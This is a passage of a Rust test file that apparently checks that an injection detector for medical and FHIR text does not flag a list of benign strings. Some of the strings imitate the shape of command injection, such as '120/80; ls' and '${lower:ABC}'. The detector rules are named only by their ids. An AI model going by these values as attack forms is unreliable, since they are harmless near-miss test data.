            "\\alpha + \\beta = 1",
            "D:\\scans\\cat\\2024",
            // An address in a note, then a list (`rce-260` wants a separator right after it).
            "192.168.1.1 router; reset done",
            "1.2.3.4.5; version",
            "120/80; ls",
            "\\\\ (two backslashes) in a note",
            // A comparison after a prose word, a SMART scope, a GraphQL selection.
            "Somewhat difficult; sleep < 5 hours",
            // Near `same_sides`, `comment_split`, rce-270 and the lone separator: no
            // `or`/`and` before a self-comparison, a comment between spaces, an HTML
            // comment, a prose word after text.
            "x=x",
            "//comment in code",
            "http://loinc.org/rdf#",
            "//cdn.example/app/logo.png",
            "${lower:ABC}",
            "Took 2 tablets; return to clinic in 2 weeks",
            "Cost $10; $in stock",
            "a == b or c == d",
            "order=order and more",
            "for a=b or c=d",
            "a /* aside */ b",
            "src/*.rs and lib/*.rs",
            "<!-- note -->",
            "<!--#1 priority-->",
            "Dx: HTN; ID",
            "\"#1 clinic\"",
            "(&(objectCategory=computer))",
            "C:\\data\\new\\n",
            "\\n is a line break in C",
            "HR; ping > 100 ms",
            "patient/*.read",
            "system/*.rs offline_access",
            "{Patient(id:123){name{given,family},birthDate}}",
            "{ObservationList(code:\"8867-4\"){valueQuantity{value,unit}}}",
            // Near the shapes of rce-235 … rce-240 and the widened command rules: prose
            // puts a space after `;`, mail words in text are not alone on the value's
            // first line, and a variable in text is a price or a template.
            // Health text that libinjection and php-130 read as code: a percentage before a
            // parenthesis, a unit before one.
            "HbA1c 5.6% (normal)",
            "HbA1c 6.2%（基準値内）",
            "ECG normal; echo showed EF 55%",
            "Tests: ECG; echo; cat scan",
            "Dx: HTN; ID consult; sleep study next week",
            "pain 50% (severe), improving",
            "blood glucose 110 mg/dL (fasting)",
            "Data\r\nThe readings of the week",
            "notes:\r\nHELP desk called twice today",
            "\nDATA",
            "list 3 items\r\nTOP 1 2",
            "mail from the clinic: see attached",
            "the patient; who was seen; set of results; top priority",
            "R&D; Q&A; AT&T; B&W",
            "Wow!! 1 tablet!",
            "!important",
            "US$ 5 / day; costs $AUD (approx)",
            "it's the patient's",
            "\"\" empty",
            "set of 3",
            "time to eat",
            "cd-rom",
            "rc car",
            "ex-smoker, quit 2019",
            "bin/ folder is empty",
            "{,}",
            "Process spawned in the lab",
            "~5",
            // Near the shapes of rce-190's new words and rce-230 … rce-234.
            "date - end date",
            "Alias: Taro",
            "mail taro@example.jp; date of birth 1980-01-01",
            "call me () {later}",
            "see note; .5 mg more",
            "(sh) shortness",
            "/* comment */",
            "https://example.org/search?q=a/b",
            "twice/day*",
            "$[0]",
            "$.entry[0].resource",
            "p-001",
            "Patient/p-001",
            "2026-04-10",
            "収縮期血圧 118 mm[Hg]",
            "ＨｂＡ１ｃ 5.6%",
            "O'Brien",
            "Tom & Jerry",
            "https://example.org/fhir/Patient/1",
            "http://loinc.org",
            "1 tablet twice a day; after meals",
            "select a plan",
            "file\n(see the attached report)",
            "blood_pressure (mmHg)",
            "range (0-5)",
            "session_token",
            "mailto:taro@example.jp",
            "https://social.example/@taro",
            "https://example.org/fhir/Patient?email=taro@example.jp",
            "time of day: after breakfast",
            "~5 mg",
            "a ~+ sign",
            "/fhir/Patient/p-1/$everything",
            "costs $5; paid",
            "that's two \"O\"s in goose",
            "'quoted' text",
            "$$ is the shell's pid",
            "range {1,2}",
            "{\"a\": 1}",
            "head and neck examination",
            "more than 2 weeks",
            "nice cat",
            "cd4 count 500; CD in remission",
            "find a doctor near you",
            "time - 10:30",
            "sleep 7 hours",
            "HPLC; fold change 2.3; bridge therapy planned",
            "engine oil changed",
            "data: text/plain notes",
            "urn:oid:1.2.392.100495.20.3.51.1",
            "a/b/c.json",
            "Bearer abc.def.ghi",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "{\"resourceType\": \"Observation\"}",
            "118/76 mmHg",
            "10.5/12",
            "LL VIEW",
            "At least 100 beats per minute",
            "Axel Smith",
            "Apt is gated; call when you get here",
            "lymph node; biopsy planned",
            "last dose at 8pm; next at 8am",
            "if the pain persists, call",
            "see the attached file(s)",
            "breath held while (1 min)",
            "get the http/2 client",
            "post office box 12",
            "while(!true);",
            "the console. Log in again",
            "&lt;? should not trigger",
            "backup.sql",
            "cost $AUD (approx)",
            "sodium_add_to_recipe(foo)",
            "He said \"no\". \"Yes\", she said",
            "C:\\Users\\yamada\\u-file.txt",
            "the process went well",
            "blood pressure (left)(sitting)",
            "HbA1c (NGSP) (n=2) 5.6%",
            "Alert (high): confirm with the doctor",
            "the document body was scanned",
            "opened the window. Body temperature 37.2",
            "https://example.org/fhir?_count=10",
            "http://hl7.org/fhir/sid/icd-10",
            "what is the file?",
            "first__name",
            "cost $5 [approx] (est.)",
            "localhost",
            "report.sql is attached",
        ] {
            assert_eq!(hit(raw), None, "{raw}");
        }
    }
}
